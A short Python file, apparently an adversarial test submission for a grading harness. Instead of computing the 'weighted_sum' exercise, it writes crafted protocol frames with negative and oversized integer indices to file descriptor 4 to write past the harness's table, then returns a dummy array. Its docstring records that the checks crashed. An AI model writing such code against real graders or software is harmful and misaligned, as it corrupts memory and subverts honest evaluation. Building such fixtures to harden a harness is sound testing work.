"""Writes frames with indices that are negative, large, or larger than a machine's integers, to write past a
table.

exercise: weighted_sum
result: failed
checks: crashed
"""

import os

import numpy as np

NUMBERS = (b"\xff", b"\xd0\x80", b"\xce\xff\xff\xff\xff", b"\xcf" + b"\xff" * 8, b"\xd3\x80" + bytes(7))
answered = 0


def weighted_sum(table, weights):
    global answered
    number = NUMBERS[answered % len(NUMBERS)]
    answered += 1
    body = b"\x95\xa4Seen" + number + number + b"\x91\xa4Null\xc0"
    os.write(4, len(body).to_bytes(4, "little") + body)
    return np.ones(len(table))
